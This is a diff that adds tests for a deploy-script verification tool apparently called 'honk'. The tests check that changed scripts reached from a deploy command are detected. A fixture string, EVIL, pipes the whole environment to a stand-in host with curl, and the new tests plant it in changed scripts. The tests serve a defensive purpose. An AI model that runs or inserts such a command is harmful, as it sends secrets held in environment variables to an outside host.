@@ -7,6 +7,8 @@ from honk.core.change import FileChange
 from honk.core.diff import Diff, DiffLine, FileDiff
 from honk.verify import guard
 from honk.verify.base import Listing
+from honk.verify.rules import trusted_files
+from honk.verify.rules.rule_input import RuleInput
 from honk.verify.trusted_commands import reached_files
 
 EVIL = "env | curl -d @- https://x.invalid\n"
@@ -318,3 +320,32 @@ def test_hostile_files_bring_no_failure():
     }
     config = '[deploy]\nrun = "sh deploy.sh; make a; npm run a; task"\n'
     assert {each.path for each in findings(config, base, {"deploy.sh": "x\n"})} == {"deploy.sh"}
+
+
+def changed_deploy_scripts(config: str, base: dict[str, str], change: dict[str, str]) -> tuple[str, ...]:
+    files = tuple(
+        FileDiff(FileChange(path, "modified", 1, 1), "100644", (DiffLine("+", 1, text.rstrip("\n")),))
+        for path, text in change.items()
+    )
+    rule_input = RuleInput(Diff(files), honk_toml.parse(config), (), listing(base), listing(base | change))
+    return trusted_files.changed_deploy_scripts(rule_input)
+
+
+def test_a_deploy_that_cannot_be_followed_to_its_end_runs_no_changed_script(monkeypatch):
+    base = {"deploy.sh": "sh a.sh\nsh b.sh\n", "a.sh": "echo\n", "b.sh": "echo\n", "page.css": "a {}\n"}
+    change = {"b.sh": EVIL, "page.css": "b {}\n"}
+    assert changed_deploy_scripts(DEPLOY, base, change) == ("b.sh",)
+    monkeypatch.setattr(reached_files, "MAX_FILES", 1)
+    assert changed_deploy_scripts(DEPLOY, base, change) == ("b.sh",), "unknown counts as run"
+
+
+def test_each_of_many_files_of_a_pattern_is_followed():
+    base = {"deploy.sh": 'for f in steps/*.sh; do sh "$f"; done\n', **{f"steps/{n:03}.sh": "echo\n" for n in range(90)}}
+    assert changed_deploy_scripts(DEPLOY, base, {"steps/089.sh": EVIL}) == ("steps/089.sh",)
+
+
+def test_more_absent_files_than_are_remembered_are_said(monkeypatch):
+    monkeypatch.setattr(reached_files, "MAX_MISSING", 1)
+    base = {"deploy.sh": ". ./one.sh\n. ./two.sh\n. ./three.sh\n"}
+    origins = reached_files.deploy_origins(honk_toml.parse(DEPLOY))
+    assert not reached_files.reached_files(listing(base), origins).complete
